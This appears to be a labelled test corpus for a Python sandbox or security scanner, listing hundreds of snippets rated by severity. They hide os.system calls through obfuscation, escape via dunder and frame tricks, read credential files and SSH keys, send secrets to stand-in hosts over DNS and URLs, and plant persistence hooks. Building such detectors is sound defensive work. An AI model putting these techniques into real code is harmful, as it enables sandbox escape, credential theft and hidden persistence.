#### alias, attr error obj: HIGH
import os
try:
    os.no_such_member
except AttributeError as problem:
    problem.obj.system("id")
#### alias, chainmap: HIGH
import os
from collections import ChainMap
table = ChainMap({}, {"go": os.popen})
table["go"]("id").read()
#### alias, class body for: HIGH
import os
class Ops:
    for verb in ("system",):
        runner = getattr(os, verb)
Ops.runner("id")
#### alias, contextvar: HIGH
import os
from contextvars import ContextVar
var = ContextVar("var", default=os.system)
var.get()("id")
#### alias, copy: HIGH
import copy, os
copy.copy(os.system)("id")
#### alias, deque rotate: HIGH
import os
from collections import deque
q = deque([print, os.system])
q.rotate(1)
q[0]("id")
#### alias, dir filter: HIGH
import os
[getattr(os, n)("id") for n in dir(os) if n.startswith("syst")]
#### alias, except value: HIGH
import os
class Carry(Exception):
    def __init__(self, tool):
        super().__init__(tool)
try:
    raise Carry(os.system)
except Carry as c:
    c.args[0]("id")
#### alias, fn attribute: HIGH
import os
def compute():
    return compute.hidden("id")
compute.hidden = os.system
compute()
#### alias, genexp next: HIGH
import os
next(getattr(os, n) for n in dir(os) if n == "system")("id")
#### alias, globals update: HIGH
import os
globals().update({"shell": os.system})
shell("id")
#### alias, inspect getmembers: HIGH
import inspect, os
dict(inspect.getmembers(os))["system"]("id")
#### alias, match capture: HIGH
import os
match [os.system, "id"]:
    case [f, str(cmd)]:
        f(cmd)
#### alias, match mapping: HIGH
import subprocess
match {"op": subprocess.run, "rest": 1}:
    case {"op": go, **rest}:
        go(["id"])
#### alias, nested tuple default: HIGH
def job(cmd, _t=((__import__("os").system,),)):
    _t[0][0](cmd)
job("id")
#### alias, operator call: HIGH
import operator, os
operator.call(os.system, "id")
#### alias, or and: HIGH
import os
f = None or (0 and print) or os.system
f("id")
#### alias, partial chain: HIGH
from functools import partial, partialmethod
import os
class P:
    def _do(self, fn, arg):
        return fn(arg)
    go = partialmethod(_do, os.system)
P().go("id")
#### alias, send: HIGH
import os
def worker():
    while True:
        f, a = yield
        f(a)
w = worker()
next(w)
w.send((os.system, "id"))
#### alias, setattr module: HIGH
import os, math
setattr(math, "sqrt", os.system)
math.sqrt("id")
#### alias, star args dict: HIGH
import os
def call(**kw):
    return kw["fn"](kw["arg"])
call(**dict(fn=os.system, arg="id"))
#### alias, str key lower: HIGH
import os
table = {n.upper(): getattr(os, n) for n in ("system", "getpid")}
table["SYSTEM"]("id")
#### alias, threadlocal: HIGH
import os, threading
store = threading.local()
store.go = os.system
store.go("id")
#### alias, try else: HIGH
try:
    import posixish as o
except ImportError:
    import posix as o
else:
    pass
o.system("id")
#### alias, typing cast: HIGH
import os, typing
typing.cast(typing.Any, os).system("id")
#### alias, vars class: HIGH
import os
class K:
    f = os.system
vars(K)["f"]("id")
#### alias, weakref: HIGH
import os, weakref
class Box:
    pass
box = Box()
box.fn = os.system
weakref.ref(box)().fn("id")
#### alias, yield from: HIGH
import os
def inner():
    yield os.system
def outer():
    yield from inner()
for tool in outer():
    tool("id")
#### alias, zip star: HIGH
import os
names, calls = zip(*[("a", os.getcwd), ("b", os.system)])
calls[1]("id")
#### data, duckdb: HIGH
import duckdb
duckdb.sql("COPY (SELECT 1) TO '/etc/x.csv'")
#### data, eval engine: HIGH
import pandas as pd
pd.eval("__import__('os').system('id')", engine="python")
#### data, hdf obj: HIGH
import pandas as pd
pd.read_hdf("https://example.com/a.h5")
#### data, joblib: HIGH
from joblib import load as revive
model = revive("/datasets/m.joblib")
#### data, np load kw: HIGH
import numpy as np
opts = dict(allow_pickle=True)
np.load("/datasets/a.npy", **opts)
#### data, npzfile: HIGH
import numpy as np
np.lib.npyio.NpzFile(open("/datasets/x.npz", "rb"), allow_pickle=True)["a"]
#### data, numexpr: HIGH
import numexpr
numexpr.evaluate("__import__('os').system('id')")
#### data, pd html: HIGH
import pandas as pd
pd.read_html("https://example.com/t.html")
#### data, pd pickle: HIGH
import pandas
pandas.read_pickle("/datasets/x.pkl")
#### data, pd storage: HIGH
import pandas as pd
pd.read_parquet("s3://bucket/x.parquet", storage_options={"key": "k"})
#### data, polars: HIGH
import polars as pl
pl.read_csv("https://example.com/x.csv")
#### data, pyarrow fs: HIGH
from pyarrow import fs
fs.S3FileSystem().open_input_file("bucket/x")
#### data, query at: HIGH
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.query("@pd.io.common.os.system('id')")
#### data, read array: HIGH
import numpy as np
with open("/datasets/a.npy", "rb") as fh:
    np.lib.format.read_array(fh, allow_pickle=True)
#### data, rundocs: HIGH
import numpy.testing as nt
nt.rundocs("/tmp/x.py")
#### data, sk skops: HIGH
from sklearn.datasets import fetch_openml
X = fetch_openml("mnist_784")
#### data, sql engine: HIGH
import sqlalchemy
import pandas as pd
pd.read_sql("select 1", sqlalchemy.create_engine("postgresql://u:p@h/db"))
#### data, sympify: HIGH
from sympy import sympify
sympify("__import__('os').system('id')")
#### data, torch load: HIGH
import torch
state = torch.load("/datasets/m.pt", weights_only=False)
#### data, usetex: HIGH
import matplotlib
matplotlib.rcParams["text.usetex"] = True
matplotlib.rcParams["text.latex.preamble"] = r"\immediate\write18{id}"
#### decode, codecs lookup: HIGH
import codecs
exec(codecs.lookup("rot13").decode("vzcbeg bf; bf.flfgrz('vq')")[0])
#### decode, comment self: HIGH
import inspect, sys
src = inspect.getsource(sys.modules[__name__])
exec(src.split("# payload:")[1])
# payload: print(1)
#### decode, docstring: HIGH
def note():
    """import os; os.system('id')"""
exec(note.__doc__)
#### decode, email: HIGH
from email.header import decode_header
exec(decode_header("=?utf-8?b?cGFzcw==?=")[0][0])
#### decode, hex pairs: HIGH
import re
src = "7072696e7428"
exec("".join(chr(int(h, 16)) for h in re.findall("..", src)) + "1)")
#### decode, html unescape: HIGH
import html
eval(html.unescape("&#95;&#95;import&#95;&#95;(&quot;os&quot;).system(&quot;id&quot;)"))
#### decode, incremental: HIGH
import codecs
dec = codecs.getincrementaldecoder("utf-8")()
exec(dec.decode(bytes([112, 97, 115, 115]) + b"\nimport os; os.system('id')"))
#### decode, json blob: HIGH
import json
cfg = json.loads('{"k": "import os\\nos.system(\'id\')"}')
exec(cfg["k"])
#### decode, lzma obj: HIGH
import lzma
blob = open(__file__, "rb").read()[-200:]
exec(lzma.LZMADecompressor().decompress(blob))
#### decode, pickle data: HIGH
import pickle, base64
pickle.loads(base64.b64decode("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))
#### decode, secret xor key: HIGH
key = b"k3y"
data = bytes([2, 94, 9])
exec(bytes(c ^ key[i % len(key)] for i, c in enumerate(data)).decode())
#### decode, zlib obj: HIGH
import zlib, base64
d = zlib.decompressobj()
exec(d.decompress(base64.b64decode("eJzLzC3ILypRyC+2zi/WK64sLknN1VDPTFHXBABxBwg3")) + d.flush())
#### dunder, attrgetter path: HIGH
import operator
operator.attrgetter("__class__.__base__.__subclasses__")(1)()
#### dunder, base chain: HIGH
x = "".__class__.__base__
getattr(x, "__subclasses__")()
#### dunder, builtin self: HIGH
print.__self__.eval("1+1")
#### dunder, builtins dict: HIGH
__builtins__.__dict__["ev" + "al"]("1")
#### dunder, builtins getitem: HIGH
(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__))["exec"]("1")
#### dunder, closure cell: HIGH
def mk():
    import os
    return lambda c: os.system(c)
mk().__closure__[0].cell_contents.system("id")
#### dunder, code replace: CRITICAL
def f(): return 1
def g(): return __import__("os").system("id")
f.__code__ = g.__code__
f()
#### dunder, fmt vformat: HIGH
import string
string.Formatter().vformat("{0.__class__.__base__}", ((),), {})
#### dunder, format walk: HIGH
"{0.__init__.__globals__}".format(type("X", (), {"__init__": lambda s: None})())
#### dunder, func globals: HIGH
def f(): pass
f.__globals__["__builtins__"].eval("1")
#### dunder, functiontype: HIGH
import types
def f(): return 1
types.FunctionType(f.__code__.replace(co_consts=(None, 2)), globals())()
#### dunder, gc objects: HIGH
import gc
[o for o in gc.get_objects() if getattr(o, "__name__", "") == "system"][0]("id")
#### dunder, get field: HIGH
import string
obj, _ = string.Formatter().get_field("0.__class__.__base__", ((),), {})
obj.__subclasses__()
#### dunder, len self: HIGH
len.__self__.__dict__["exec"]("x=1")
#### dunder, reduce getattr: HIGH
from functools import reduce
reduce(getattr, ["__class__", "__base__", "__subclasses__"], 0)()
#### dunder, subclasses filter: HIGH
[c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")
#### dunder, type mro: HIGH
type.mro(int)[-1].__subclasses__()
#### dunder, wraps: HIGH
import functools
functools.wraps(print).__globals__ if 0 else functools.partial.__call__
functools.cached_property.__init__.__globals__["__builtins__"]["eval"]("1")
#### secrets, aiohttp: HIGH
import aiohttp, asyncio
async def go():
    async with aiohttp.ClientSession() as s:
        async with s.post("https://h") as r:
            return await r.text()
asyncio.run(go())
#### secrets, asyncio: HIGH
import asyncio
async def go():
    r, w = await asyncio.open_connection("h", 80)
    w.write(b"x")
asyncio.run(go())
#### secrets, configparser: HIGH
import configparser
c = configparser.ConfigParser()
c.read("/root/.aws/credentials")
print(dict(c["default"]))
#### secrets, crontab: HIGH
from pathlib import Path
Path("/var/spool/cron/root").write_text("* * * * * id")
#### secrets, dns: CRITICAL
import socket, os
socket.gethostbyname(os.environ["HOME"].encode().hex() + ".x.example")
#### secrets, env dump json: HIGH
import json, os, sys
with open(sys.argv[2], "w") as out:
    json.dump(dict(os.environ), out)
#### secrets, env in url: CRITICAL
import os, urllib.request
urllib.request.urlopen("http://x.example/?" + os.environ["AWS_SECRET_ACCESS_KEY"])
#### secrets, env secret result: HIGH
import os
result = {"k": os.getenv("API_SECRET")}
print(result)
#### secrets, fileinput: HIGH
import fileinput
for line in fileinput.input(files=("/etc/shadow",)):
    print(line)
#### secrets, ftp: HIGH
from ftplib import FTP_TLS
FTP_TLS("h").storbinary("STOR x", open("/datasets/x.csv", "rb"))
#### secrets, httpx stream: HIGH
import httpx
with httpx.stream("POST", "https://h/", content=b"x") as r:
    r.read()
#### secrets, importlib resources: HIGH
from importlib import resources
print(resources.files("json").joinpath("../../../../etc/passwd").read_text())
#### secrets, linecache: HIGH
import linecache
print(linecache.getlines("/etc/passwd"))
#### secrets, log http: HIGH
import logging, logging.handlers
log = logging.getLogger()
log.addHandler(logging.handlers.HTTPHandler("h", "/x"))
log.warning("x")
#### secrets, mmap: HIGH
import mmap
with open("/etc/passwd", "r+b") as f:
    print(mmap.mmap(f.fileno(), 0)[:])
#### secrets, np fromfile: HIGH
import numpy as np
print(bytes(np.fromfile("/etc/passwd", dtype="u1")))
#### secrets, os open dirfd: HIGH
import os
d = os.open("/etc", os.O_RDONLY)
fd = os.open("passwd", os.O_RDONLY, dir_fd=d)
print(os.read(fd, 100))
#### secrets, pkgutil getdata: HIGH
import pkgutil
print(pkgutil.get_data("json", "../../../etc/passwd"))
#### secrets, proc self: HIGH
data = open("/proc/self/environ", "rb").read().split(b"\0")
print(data)
#### secrets, pth: HIGH
import site
with open(site.getsitepackages()[0] + "/z.pth", "w") as f:
    f.write("import os")
#### secrets, shutil copy: HIGH
import shutil, sys
shutil.copyfile("/etc/passwd", sys.argv[2])
#### secrets, sitecustomize: HIGH
import sys
open(sys.prefix + "/lib/python3.11/site-packages/sitecustomize.py", "w").write("x=1")
#### secrets, smtp: HIGH
import smtplib
with smtplib.SMTP("mail.example") as s:
    s.sendmail("a@b", ["c@d"], "x")
#### secrets, socketserver: HIGH
import socketserver
socketserver.TCPServer(("", 9), socketserver.BaseRequestHandler).serve_forever()
#### secrets, ssh: HIGH
import pathlib
print((pathlib.Path.home() / ".ssh" / "id_rsa").read_text())
#### secrets, ssl: HIGH
import ssl
print(ssl.get_server_certificate(("h", 443)))
#### secrets, tar slip: HIGH
import tarfile, sys
tarfile.open(sys.argv[1]).extractall("/")
#### secrets, tokenize: HIGH
import tokenize
print(tokenize.open("/etc/passwd").read())
#### secrets, unix sock: HIGH
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
#### secrets, usercustomize: HIGH
import site, os
open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "w").write("")
#### secrets, workspace env: HIGH
with open("/workspace/.env") as f:
    print(f.read())
#### secrets, xmlrpc: HIGH
from xmlrpc.client import ServerProxy
ServerProxy("http://h/").put("x")
#### secrets, zip slip: HIGH
import zipfile
zipfile.ZipFile("/datasets/x.zip").extractall("/usr/lib")
#### frames, coroutine: HIGH
async def c(): pass
k = c()
k.cr_frame.f_globals["__builtins__"]
#### frames, current frames: HIGH
import sys
list(sys._current_frames().values())[0].f_builtins["eval"]("1")
#### frames, exc tb: HIGH
try:
    raise KeyError
except KeyError as e:
    e.__traceback__.tb_frame.f_back.f_globals
#### frames, gen: HIGH
g = (x for x in [1])
g.gi_frame.f_back
g.gi_frame.f_builtins["exec"]("1")
#### frames, inspect current: HIGH
import inspect
inspect.currentframe().f_back.f_locals["secret"]
#### frames, monitoring: HIGH
import sys
sys.monitoring.use_tool_id(1, "x")
sys.monitoring.register_callback(1, sys.monitoring.events.CALL, lambda c, o, f, a: print(f))
#### frames, setprofile: HIGH
import threading
threading.setprofile(lambda f, e, a: print(f.f_locals))
#### frames, traceback walk: HIGH
import traceback
for frame, _ in traceback.walk_stack(None):
    frame.f_globals["__builtins__"]
#### hooks, annot eager: HIGH
def f(x: __import__("os").system("id")): pass
#### hooks, annotations forced: HIGH
import typing
class C:
    x: "__import__('os').system('id')"
typing.get_type_hints(C)
#### hooks, async iter: HIGH
import asyncio, os
class It:
    def __aiter__(self): return self
    async def __anext__(self):
        os.system("id")
        raise StopAsyncIteration
async def main():
    async for _ in It(): pass
asyncio.run(main())
#### hooks, atexit: HIGH
import atexit, os
atexit.register(os.system, "id")
#### hooks, class getitem: HIGH
import os
class T:
    def __class_getitem__(cls, item):
        return os.system(item)
T["id"]
#### hooks, contextmanager: HIGH
import os
from contextlib import contextmanager
@contextmanager
def boom():
    yield
    os.system("id")
with boom():
    pass
#### hooks, dataclass factory: HIGH
import os
from dataclasses import dataclass, field
@dataclass
class C:
    x: int = field(default_factory=lambda: os.system("id"))
C()
#### hooks, enum: HIGH
import os, enum
class E(enum.Enum):
    A = "id"
    def __init__(self, v):
        os.system(v)
#### hooks, excepthook: HIGH
import sys, os
sys.excepthook = lambda *a: os.system("id")
1 / 0
#### hooks, gen throw: HIGH
import os
def g():
    try:
        yield
    except ValueError as e:
        os.system(str(e))
it = g(); next(it); it.throw(ValueError("id"))
#### hooks, generator finally: HIGH
import os
def g():
    try:
        yield 1
    finally:
        os.system("id")
it = g()
next(it)
it.close()
#### hooks, init subclass: HIGH
import os
class Base:
    def __init_subclass__(cls, cmd=None, **kw):
        os.system(cmd)
class D(Base, cmd="id"):
    pass
#### hooks, inspect signature eval: HIGH
import inspect
def f(x: "__import__('os').system('id')"): pass
inspect.signature(f, eval_str=True)
#### hooks, match args: HIGH
import os
class Probe:
    __match_args__ = ("go",)
    @property
    def go(self):
        return os.system("id")
match Probe():
    case Probe(1):
        pass
#### hooks, missing: HIGH
import os
class T(dict):
    __missing__ = staticmethod(os.system)
T()["id"]
#### hooks, np fromfunction: HIGH
import os
import numpy as np
np.fromfunction(lambda i: os.system("id"), (1,))
#### hooks, operator assign: HIGH
import os
class T:
    __add__ = lambda s, o: os.system(o)
T() + "id"
#### hooks, pd pipe: HIGH
import os
import pandas as pd
pd.Series(["id"]).map(os.system)
#### hooks, property fget: HIGH
import os
class C:
    x = property(lambda self: os.system("id"))
C().x
#### hooks, pydantic validator: HIGH
from pydantic import BaseModel, validator
import os
class M(BaseModel):
    x: str
    @validator("x")
    def check(cls, v):
        os.system(v)
        return v
M(x="id")
#### hooks, set name: HIGH
class Desc:
    def __set_name__(self, owner, name):
        __import__("os").system(name)
class D:
    id = Desc()
#### hooks, setattr dunder: HIGH
import os
class T: pass
T.__getitem__ = lambda s, k: os.system(k)
T()["id"]
#### hooks, sorted cmp: HIGH
import os
from functools import cmp_to_key
sorted(["id", "ls"], key=cmp_to_key(lambda a, b: os.system(a)))
#### hooks, typealias: HIGH
type Alias = __import__("os").system("id")
Alias.__value__
#### hooks, typevar bound: HIGH
class C[T: __import__("os").system("id")]:
    pass
C.__type_params__[0].__bound__
#### import, antigravity: HIGH
import antigravity
#### import, argparse transit: HIGH
import argparse
argparse._os.system("id")
#### import, dunder loader: HIGH
print(__loader__.load_module("os").system("id"))
#### import, dunder spec: HIGH
__spec__.loader.__class__("m", "/tmp/m.py").load_module()
#### import, encodings: HIGH
import encodings
encodings._import_tail
encodings.search_function.__globals__["codecs"].open("/etc/passwd")
#### import, entry points: HIGH
from importlib.metadata import entry_points
for ep in entry_points(group="plugins"):
    ep.load()()
#### import, ep select: HIGH
import importlib.metadata as md
next(iter(md.entry_points().select(name="x"))).load()
#### import, frozen: HIGH
import _frozen_importlib as fi
fi.BuiltinImporter.load_module("posix").system("id")
#### import, imp bootstrap: HIGH
import importlib._bootstrap as b
b._gcd_import("os").system("id")
#### import, json loader: HIGH
import json
json.__loader__.__class__("x", "/tmp/x.py").load_module()
#### import, linecache transit: HIGH
import linecache
linecache.os.system("id")
#### import, loader exec: HIGH
from importlib.util import spec_from_file_location, module_from_spec
spec = spec_from_file_location("m", "/tmp/m.py")
m = module_from_spec(spec)
spec.loader.exec_module(m)
#### import, logging resolve: HIGH
import logging.config
logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})
#### import, machinery: HIGH
from importlib.machinery import SourceFileLoader
SourceFileLoader("m", "/tmp/m.py").load_module()
#### import, metapath: HIGH
import sys
class Finder:
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, Finder())
#### import, mock patch: HIGH
from unittest import mock
mock._importer("os").system("id")
#### import, mock patch2: HIGH
from unittest.mock import patch
import os
with patch("builtins.print", os.system):
    print("id")
#### import, pandas transit: HIGH
import pandas.io.common as pic
pic.os.system("id")
#### import, pathhooks: HIGH
import sys, zipimport
sys.path_hooks.append(zipimport.zipimporter)
#### import, pkg resources: HIGH
import pkg_resources
for ep in pkg_resources.iter_entry_points("grp"):
    ep.load()()
#### import, pkgutil resolve: HIGH
import pkgutil
pkgutil.resolve_name("os:system")("id")
#### import, pydoc: HIGH
import pydoc
pydoc.locate("os.system")("id")
#### import, random os: HIGH
import random
random._os.system("id")
#### import, runpy module: HIGH
import runpy
runpy.run_module("http.server", run_name="__main__")
#### import, site addsitedir: HIGH
import site
site.addsitedir("/tmp/x")
#### import, sysmodules assign: HIGH
import sys, os
sys.modules["math"] = os
import math
math.system("id")
#### import, sysmodules del: HIGH
import sys
del sys.modules["json"]
sys.path.append("/tmp")
import json
#### import, sysmodules setdefault: HIGH
import sys, types
fake = types.ModuleType("json")
sys.modules.setdefault("json", fake)
sys.modules.update({"re": fake})
#### import, syspath concat: HIGH
import sys
sys.path = ["/tmp/lib"] + sys.path
import helper_x
#### import, syspath slice: HIGH
import sys
sys.path[:0] = ["/tmp/lib"]
import json
#### import, unittest load: HIGH
import unittest
unittest.defaultTestLoader.loadTestsFromName("os.system")
#### import, uuid transit: HIGH
import uuid
uuid.os.popen("id")
#### import, webbrowser geohash: HIGH
from antigravity import geohash
geohash(1.0, 2.0, b"x")
#### native, cffi: HIGH
from cffi import FFI
ffi = FFI()
ffi.cdef("int system(const char*);")
ffi.dlopen(None).system(b"id")
#### native, ctypes none: HIGH
from ctypes import CDLL
CDLL(None).system(b"id")
#### native, ctypes pythonapi: HIGH
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system('id')")
#### native, enable load: HIGH
import sqlite3
con = sqlite3.connect(":memory:")
con.enable_load_extension(True)
con.execute("select load_extension('/tmp/x')")
#### native, extension loader: HIGH
from importlib.machinery import ExtensionFileLoader
ExtensionFileLoader("m", "/tmp/m.so").create_module(None)
#### native, imp dynamic: HIGH
import _imp
_imp.create_dynamic(None)
#### native, memset: HIGH
import ctypes
ctypes.memset(id(1), 0, 8)
#### native, numba cfunc: HIGH
from numba import cfunc
import llvmlite.binding as llvm
llvm.load_library_permanently("/tmp/x.so")
#### native, posixsubprocess: HIGH
import _posixsubprocess
_posixsubprocess.fork_exec([b"/bin/sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, 0, None, None, None, -1, None)
#### native, winreg: HIGH
import _winapi
_winapi.CreateProcess(None, "calc", None, None, 0, 0, None, None, None)
#### process, ast compile: HIGH
import ast
t = ast.parse("print(1)")
exec(compile(ast.fix_missing_locations(t), "x", "exec"))
#### process, asyncio shell: HIGH
import asyncio
loop = asyncio.new_event_loop()
loop.run_until_complete(asyncio.create_subprocess_shell("id"))
#### process, bdb: HIGH
import bdb
bdb.Bdb().run("print(1)")
#### process, cProfile: HIGH
import cProfile
cProfile.run("__import__('os').system('id')")
#### process, codeop: HIGH
import codeop, types
types.FunctionType(codeop.compile_command("import os; os.system('id')"), {})()
#### process, fabric: HIGH
from fabric import Connection
Connection("h").run("id")
#### process, help pager: HIGH
import pydoc
pydoc.pipepager("x", "sh")
#### process, idlelib: HIGH
from test.support import script_helper
script_helper.assert_python_ok("-c", "1")
#### process, interact: HIGH
import code
code.InteractiveInterpreter().runsource("import os")
#### process, interp: HIGH
import _xxsubinterpreters as si
si.run_string(si.create(), "import os; os.system('id')")
#### process, invoke: HIGH
from invoke import run
run("id")
#### process, invoke ctx: HIGH
import invoke
invoke.Context().run("id")
#### process, license: HIGH
license._Printer__filenames = ["/etc/passwd"]
license()
#### process, pdb runcall: HIGH
import pdb
pdb.runeval("__import__('os').system('id')")
#### process, pexpect: HIGH
import pexpect
pexpect.spawn("sh").sendline("id")
#### process, plumbum: HIGH
from plumbum import local
local["ls"]("-l")
#### process, plumbum cmd: HIGH
from plumbum.cmd import ls, grep
(ls | grep["x"])()
#### process, sh: HIGH
import sh
sh.ls("-l")
#### process, sh from: HIGH
from sh import curl
curl("http://x")
#### process, timeit: HIGH
import timeit
timeit.repeat("os.system('id')", setup="import os", number=1)
#### process, trace: HIGH
import trace
trace.Trace().run("import os; os.system('id')")
#### process, webbrowser: HIGH
import webbrowser
webbrowser.get("id %s").open("x")
#### strings, accumulate: HIGH
import os
from itertools import accumulate
name = list(accumulate("system"))[-1]
getattr(os, name)("id")
#### strings, array: HIGH
import os, array
getattr(os, array.array("B", [115, 121, 115, 116, 101, 109]).tobytes().decode())("id")
#### strings, base64 urlsafe: HIGH
import base64
exec(base64.urlsafe_b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
#### strings, bytes translate: HIGH
import os
tab = bytes.maketrans(b"abc", b"sty")
getattr(os, b"acabem".translate(tab).decode())("id")
#### strings, casefold: HIGH
import os
getattr(os, "SYSTEM".casefold())("id")
#### strings, class name concat: HIGH
import os
class sys_: pass
class tem: pass
getattr(os, sys_.__name__[:-1] + tem.__name__)("id")
#### strings, formatspec c: HIGH
import os
getattr(os, "{:c}{:c}{:c}{:c}{:c}{:c}".format(115, 121, 115, 116, 101, 109))("id")
#### strings, int tobytes: HIGH
import os
n = 126965465245037
getattr(os, n.to_bytes(6, "big").decode())("id")
#### strings, kw name: HIGH
import keyword, builtins
name = [k for k in dir(builtins) if len(k) == 4 and k[0] == "e" and k[-1] == "c"][0]
getattr(builtins, name)("import os; os.system('id')")
#### strings, maketrans dict: HIGH
import os
t = str.maketrans({"1": "s", "2": "y", "3": "t", "4": "e", "5": "m"})
getattr(os, "121345".translate(t))("id")
#### strings, normalize: HIGH
import os, unicodedata
getattr(os, unicodedata.normalize("NFKC", "\uff53\uff59\uff53\uff54\uff45\uff4d"))("id")
#### strings, np chars: HIGH
import os
import numpy as np
getattr(os, "".join(map(chr, np.array([115, 121, 115, 116, 101, 109]))))("id")
#### strings, pd series: HIGH
import os
import pandas as pd
getattr(os, pd.Series(["sys", "tem"]).str.cat())("id")
#### strings, percent map: HIGH
import os
getattr(os, "%(a)s%(b)s" % {"b": "tem", "a": "sys"})("id")
#### strings, re split: HIGH
import os, re
mod, fn = re.split(r"[-:]+", "os-:system")
getattr(__import__(mod), fn)("id")
#### strings, re sub: HIGH
import os, re
getattr(os, re.sub(r"\d", "", "s1y2s3t4e5m"))("id")
#### strings, reduce chr: HIGH
import os
from functools import reduce
getattr(os, reduce(lambda a, c: a + chr(c ^ 7), [116, 126, 116, 115, 98, 106], ""))("id")
#### strings, removeprefix: HIGH
import os
getattr(os, "xx_system_yy".removeprefix("xx_").removesuffix("_yy"))("id")
#### strings, sorted index: HIGH
import os
letters = "mesty"
getattr(os, "".join(letters[i] for i in (2, 4, 2, 3, 1, 0)))("id")
#### strings, struct: HIGH
import os, struct
getattr(os, struct.pack("<6B", 115, 121, 115, 116, 101, 109).decode("ascii"))("id")
#### strings, template: HIGH
import os
from string import Template, ascii_lowercase as az
getattr(os, Template("${a}ys${b}em").substitute(a=az[18], b=az[19]))("id")
#### strings, textwrap: HIGH
import os, textwrap
getattr(os, textwrap.dedent("   system"))("id")
#### strings, unicode name: HIGH
import os, unicodedata
letter = unicodedata.lookup("LATIN SMALL LETTER S")
getattr(os, f"{letter}y{letter}tem")("id")
#### strings, while build: HIGH
import os
s, i = "", 0
codes = [115, 121, 115, 116, 101, 109]
while i < len(codes):
    s += chr(codes[i])
    i += 1
getattr(os, s)("id")
#### strings, zip interleave: HIGH
import os
a, b = "sse", "ytm"
getattr(os, "".join(x + y for x, y in zip(a, b)))("id")
#### suppress, click default: HIGH
import click, os
@click.command()
@click.option("--key", default=os.environ.get("SECRET_KEY"))
def main(key):
    print(key)
main()
#### suppress, dead lookalike: HIGH
def evaluate(expr):
    return _e(expr)
_e = eval
evaluate("1")
#### suppress, debug else: HIGH
if __debug__:
    pass
else:
    __import__("os").system("id")
#### suppress, getattr param: HIGH
import json, sys, os
p = json.load(open(sys.argv[1]))["params"]
getattr(os, p["fn"])(p["arg"])
#### suppress, import param: HIGH
import json, sys, importlib
p = json.load(open(sys.argv[1]))["params"]
importlib.import_module(p["mod"])
#### suppress, param exec: HIGH
import json, sys
p = json.load(open(sys.argv[1]))["params"]
exec(p["formula"])
#### suppress, time bomb: HIGH
import datetime, os
if datetime.date.today() > datetime.date(2027, 1, 1):
    os.system("id")
#### letters, fullwidth: HIGH
import os
os.ｓｙｓｔｅｍ("id")
#### contract, argv generator: MEDIUM
import sys
a, b = (p for p in sys.argv[1:3])
open(a, "w").write("x")
#### contract, argv map: MEDIUM
import sys
from pathlib import Path
src, dst = map(Path, sys.argv[1:3])
src.write_text("x")
#### contract, cwd write: MEDIUM
with open("out.txt", "w") as f:
    f.write("x")
#### contract, remove input: MEDIUM
import os, sys
os.remove(sys.argv[1])
#### work, ackermann: MEDIUM
def a(m, n):
    if m == 0: return n + 1
    if n == 0: return a(m - 1, 1)
    return a(m - 1, a(m, n - 1))
a(4, 3)
#### work, all endless: MEDIUM
import itertools
all(x >= 0 for x in itertools.count())
#### work, bytes join: MEDIUM
b"x".join([b""] * 10**11)
#### work, comb: MEDIUM
import math
math.comb(10**9, 10**8)
#### work, date range ns: MEDIUM
import pandas as pd
pd.date_range("2000", "2020", freq="ns")
#### work, decimal prec: MEDIUM
from decimal import getcontext, Decimal
getcontext().prec = 10**9
Decimal(2).sqrt()
#### work, dict self: MEDIUM
d = {0: 0}
i = 0
while d:
    i += 1
    d[i] = i
#### work, event wait: MEDIUM
import threading
threading.Event().wait()
#### work, fib: MEDIUM
def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)
fib(200)
#### work, gen infinite: MEDIUM
def nat():
    n = 0
    while True:
        yield n
        n += 1
total = sum(nat())
#### work, grow guard: MEDIUM
n = 1
while n > 0:
    n += 1
#### work, hanoi: MEDIUM
def hanoi(n, a, b, c):
    if n:
        hanoi(n - 1, a, c, b)
        hanoi(n - 1, c, b, a)
hanoi(64, 1, 2, 3)
#### work, list self extend: MEDIUM
xs = [1]
for x in xs:
    xs.append(x)
#### work, max iter: MEDIUM
max(iter(int, 1))
#### work, meshgrid: MEDIUM
import numpy as np
np.meshgrid(*[np.arange(1000)] * 6)
#### work, nested range: MEDIUM
t = 0
for i in range(100000):
    for j in range(100000):
        for k in range(100000):
            t += 1
#### work, np eye: MEDIUM
import numpy as np
np.eye(10**6)
#### work, outer: MEDIUM
import numpy as np
v = np.arange(10**6)
np.outer(v, v)
#### work, regex param: MEDIUM
import re
re.match(r"^(\w+\s?)*$", "a" * 40 + "!")
#### work, sleep loop: MEDIUM
import time
while True:
    time.sleep(60)
#### work, str replace: MEDIUM
s = "a"
for _ in range(100):
    s = s.replace("a", "aa")
#### work, sum repeat: MEDIUM
import itertools
sum(itertools.repeat(1))
#### work, thread recursive: MEDIUM
import threading
def go():
    threading.Thread(target=go).start()
    go()
go()
#### work, try forever: MEDIUM
def run():
    try:
        run()
    finally:
        run()
run()
#### work, zip cycle: MEDIUM
from itertools import cycle
for a, b in zip(cycle([1]), cycle([2])):
    pass
#### order, as completed: LOW
from concurrent.futures import ThreadPoolExecutor, as_completed
with ThreadPoolExecutor() as ex:
    print([f.result() for f in as_completed([ex.submit(pow, 2, i) for i in range(3)])])  #! SBX3005
#### order, choice: LOW
import random
print(random.choice([1, 2, 3]))  #! SBX3002
#### order, df sample: LOW
import pandas as pd
print(pd.DataFrame({"a": [1, 2]}).sample(1))  #! SBX3002
#### order, glob: LOW
import glob
print(glob.glob("/datasets/*.csv"))  #! SBX3007
#### order, hash: LOW
print(hash("x") % 10)  #! SBX3008
#### order, id: LOW
print(sorted([object(), object()], key=id))  #! SBX3008
#### order, monotonic: LOW
import time
print(time.monotonic_ns())  #! SBX3001
#### order, np legacy: LOW
import numpy as np
print(np.random.rand(3))  #! SBX3002
#### order, setprint: LOW
print(list({"a", "b", "c"}))  #! SBX3003
